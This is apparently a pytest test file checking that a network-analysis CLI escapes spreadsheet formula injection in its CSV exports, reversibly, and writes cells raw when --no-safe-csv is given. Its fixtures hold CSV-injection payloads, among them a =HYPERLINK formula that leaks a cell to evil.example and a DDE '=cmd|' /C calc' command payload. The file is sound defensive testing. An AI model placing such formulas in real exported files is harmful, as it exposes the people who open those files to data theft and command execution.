"""CSV text cells are spreadsheet-safe by default (OWASP: a ' before = + - @ tab CR), reversibly,
in every CSV file; --no-safe-csv writes them raw."""

import csv

import networkx as nx
import pandas as pd
import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from netanalysis.cli import cli
from netanalysis.io.csv import (
    field_parts,
    quote,
    safe_cell,
    safe_frame,
    unsafe_cell,
    unsafe_column,
    write_csv,
    write_edges_csv,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click") China at the #BRICS',
    "+7 495 244-16-06 India at the #SCO",
    "-2+3 Brazil at the #BRICS",
    "@SUM(1+1) China at the #SCO",
    "\t=1+1 China at the #BRICS",
    "'=already quoted China at the #BRICS",
]
FORMULA = tuple("=+-@\t\r")


def number(cell):
    try:
        float(cell)
    except ValueError:
        return False
    return True


def rows(path):
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def cells(folder):
    """Every cell of every CSV file of a run folder."""
    return {p.name: [c for row in rows(p) for c in row] for p in folder.glob("*.csv")}


@pytest.fixture
def hostile(tmp_path):
    path = tmp_path / "hostile.csv"
    with open(path, "w", newline="", encoding="utf-8") as fh:
        out = csv.writer(fh)
        out.writerow(["id", "date", "channel", "text"])
        for i, text in enumerate(HOSTILE, 1):
            out.writerow([i, f"2024-0{i}-01", "=cmd|' /C calc'!A0", text])
    return path


def test_no_formula_cell_is_written_raw_by_default(hostile, tmp_path):
    out = tmp_path / "o"
    result = CliRunner().invoke(cli, ["-q", "report", str(hostile), "-o", str(out), "--format", "png"])
    assert result.exit_code == 0, result.output
    found = cells(out)
    assert set(found) >= {"posts.csv", "mentions.csv", "edges.csv", "nodes.csv", "timeline.csv", "changes.csv"}
    for name, values in found.items():
        raw = [c for c in values if c.startswith(FORMULA) and not number(c)]  # (-0.5 is a number)
        assert raw == [], (name, raw[:3])
    texts = pd.read_csv(out / "posts.csv", dtype=str, keep_default_na=False)
    assert texts["text"].map(unsafe_cell).tolist() == [t.strip() for t in HOSTILE]  # (readers strip)
    assert set(texts["channel"]) == {"'=cmd|' /C calc'!A0"}


def test_no_safe_csv_writes_the_cells_as_they_are(hostile, tmp_path):
    out = tmp_path / "o"
    result = CliRunner().invoke(cli, ["-q", "graph", str(hostile), "-o", str(out), "--no-safe-csv"])
    assert result.exit_code == 0, result.output
    texts = pd.read_csv(out / "posts.csv", dtype=str, keep_default_na=False)
    assert texts["text"].tolist() == [t.strip() for t in HOSTILE]
    assert "safe_csv" in (out / "manifest.json").read_text()


def test_the_tables_and_edges_writers(tmp_path):
    frame = pd.DataFrame({"label": ["=x", "ok", None, "-y"], "value": [-1.5, 2.0, 3.0, -4.0], "n": [-1, 2, 3, 4]})
    before = frame.copy()
    write_csv(frame, tmp_path / "t.csv")
    assert rows(tmp_path / "t.csv")[1:] == [
        ["'=x", "-1.5", "-1"],
        ["ok", "2.0", "2"],
        ["", "3.0", "3"],
        ["'-y", "-4.0", "4"],
    ]
    pd.testing.assert_frame_equal(frame, before)  # (not modified)
    numbers = frame[["value", "n"]]
    assert safe_frame(numbers) is numbers
    G = nx.Graph()
    G.add_node("country:XX", kind="country", bipartite=0, label="=evil", entity="XX")
    G.add_node("forum:F", kind="forum", bipartite=1, label="F", entity="F")
    G.add_edge("country:XX", "forum:F", weight=1, post_ids=["@a:1", "b:2"], first_date="", last_date="")
    write_edges_csv(G, tmp_path / "e.csv")
    edge = dict(zip(*rows(tmp_path / "e.csv")))
    assert edge["post_ids"] == "'@a:1;b:2"
    write_edges_csv(G, tmp_path / "raw.csv", safe=False)
    assert dict(zip(*rows(tmp_path / "raw.csv")))["post_ids"] == "@a:1;b:2"


def test_the_worker_fields_and_quote_agree_with_the_csv_module():
    for value in ["plain", "a,b", 'say "hi"', "=1", '=say "x", y', "line\nbreak", "-", "'-"]:
        one = b"".join(field_parts(value)).decode()
        assert one == quote(value)
        assert next(csv.reader([one + "\n"])) == [safe_cell(value)]


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("=+-@\t\r'ab ,\"\n")), max_size=8))
def test_safe_cells_undo_exactly_and_never_start_a_formula(value):
    cell = safe_cell(value)
    assert unsafe_cell(cell) == value
    assert not cell.startswith(FORMULA)
    assert cell == value or cell == "'" + value


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(alphabet=st.sampled_from(list("=+-@\t\r'ab ,\"\n🇷")), max_size=6), max_size=8))
def test_a_column_is_undone_as_each_cell_is(values):
    # the explorer undoes a whole column of texts with one Arrow regex: the cells it changes must
    # be exactly those unsafe_cell changes (safe cells and cells as they come both)
    for cells in (values, [safe_cell(v) for v in values]):
        for dtype in ("str", object):
            got = unsafe_column(pd.Series(cells, dtype=dtype))
            assert got.tolist() == [unsafe_cell(c) for c in cells]


def test_the_explorer_shows_the_texts_as_they_were(hostile, tmp_path):
    """The explorer reads the run's posts.csv back for whole texts and match offsets: the ' the
    file holds before a formula start is not shown, and the offsets still fit the text."""
    out = tmp_path / "o"
    result = CliRunner().invoke(cli, ["-q", "explore", str(hostile), "-o", str(out)])
    assert result.exit_code == 0, result.output
    page = (out / "network.html").read_text(encoding="utf-8")
    assert "HYPERLINK(" in page and "'=HYPERLINK" not in page and "\\u0027=HYPERLINK" not in page
    assert "'+7 495" not in page and "\\u0027+7 495" not in page and "+7 495" in page


CELLS = st.one_of(
    st.none(),
    st.text(alphabet=st.sampled_from(list("'=+-@\t\r\nab ,\"é")), max_size=6),
    st.text(max_size=4),
)


@settings(max_examples=300, deadline=None)
@given(st.lists(CELLS, min_size=1, max_size=12), st.sampled_from(["str", "object", "string[python]"]))
def test_safe_frame_is_safe_cell_on_every_cell(cells, dtype):
    # a text column is first searched whole with the rule's pattern (Arrow's regex for Arrow
    # strings): it must find every cell safe_cell changes, and change nothing else
    column = pd.Series(cells, dtype=dtype)
    got = safe_frame(pd.DataFrame({"c": column, "n": range(len(cells))}))
    expected = [safe_cell(v) if isinstance(v, str) else v for v in cells]
    assert [None if pd.isna(v) else v for v in got["c"]] == [None if v is None else v for v in expected]
    assert got["n"].tolist() == list(range(len(cells)))
